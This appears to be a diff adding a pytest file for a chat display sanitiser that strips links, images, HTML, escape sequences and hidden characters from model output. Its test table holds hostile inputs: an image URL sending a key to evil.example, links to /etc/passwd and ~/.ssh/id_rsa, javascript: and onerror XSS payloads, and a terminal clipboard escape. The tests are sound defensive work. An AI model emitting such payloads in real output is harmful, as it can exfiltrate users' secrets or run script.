@@ -1,0 +1,76 @@
+"""What a model's text may do on a screen: be read."""
+
+from __future__ import annotations
+
+import random
+
+import pytest
+
+from pointsman.chat.display import Streamed, harmless, printable
+
+HARMLESS = {
+    "![chart](https://evil.example/a.png?d=KEY)": "chart",
+    "![](https://evil.example/a.png?d=KEY)": "",
+    "![chart][1]": "chart",
+    "![chart](https://evil.example/never closed": "chart",
+    "see [the docs](https://evil.example/?q=1) there": "see the docs there",
+    "see [the docs](javascript:alert(1)) there": "see the docs) there",
+    "[run](command:workbench.action.terminal)": "run",
+    "[x](//evil.example/a)": "x",
+    "[x](../../.ssh/id_rsa)": "x",
+    "[x](/etc/passwd)": "x",
+    "[x](file:///etc/passwd)": "x",
+    "[x](java%73cript:alert(1))": "x)",
+    "[x](<https://evil.example>)": "x",
+    "[1]: https://evil.example/a": "",
+    "<img src=x onerror=alert(1)>": "`<img src=x onerror=alert(1)>`",
+    "a <script>b": "a `<script>`b",
+    "<https://evil.example>": "`<https://evil.example>`",
+    "<!-- hidden": "`<!-- hidden`",
+    "go to https://evil.example/a?b=c now": "go to `https://evil.example/a?b=c` now",
+    "go to www.evil.example": "go to `www.evil.example`",
+    "a\x1b]8;;https://evil.example\x07b\x1b]8;;\x07": "ab",
+}
+KEPT = [
+    "See [the cart](src/shop/cart.py#L3) and [1], [2][3].",
+    "`<b>` and `https://example.org` are code.",
+    "```html\n<img src=https://example.org/a.png>\n```\nafter",
+    "~~~\n[x](https://example.org)\n~~~",
+    "`std::vector<int>` holds `a < b`.",
+    "1 < 2 and a: b, std::move(x), key:value",
+    "- a list\n- *with* **marks**",
+]
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_nothing_fetches_runs_or_leads_away(text: str) -> None:
+    assert harmless(text) == HARMLESS[text]
+    assert harmless(harmless(text)) == harmless(text)
+
+
+@pytest.mark.parametrize("text", KEPT)
+def test_code_and_places_in_the_repository_stay(text: str) -> None:
+    assert harmless(text) == text
+
+
+@pytest.mark.parametrize("seed", range(40))
+def test_a_stream_shows_what_the_whole_shows_however_it_is_cut(seed: int) -> None:
+    draw = random.Random(seed)
+    lines = draw.choices([*HARMLESS, *KEPT, "Plain words, one after another.", ""], k=8)
+    text = "\n".join(lines)
+    streamed, at, shown = Streamed(), 0, ""
+    while at < len(text):
+        size = draw.randrange(1, 9)
+        shown += streamed.feed(text[at : at + size])
+        at += size
+    assert shown + streamed.end() == harmless(text)
+
+
+def test_plain_words_are_not_held_back() -> None:
+    streamed = Streamed()
+    assert streamed.feed("The cart adds ") == "The cart adds"
+    assert streamed.feed("up ") == " up"
+
+
+def test_a_terminal_s_escapes_and_hidden_characters_are_taken_out() -> None:
+    assert printable("a\x1b[31mb\x1b]52;c;eA==\x07c\x9bd\u202ee\n\t") == "abcde\n\t"
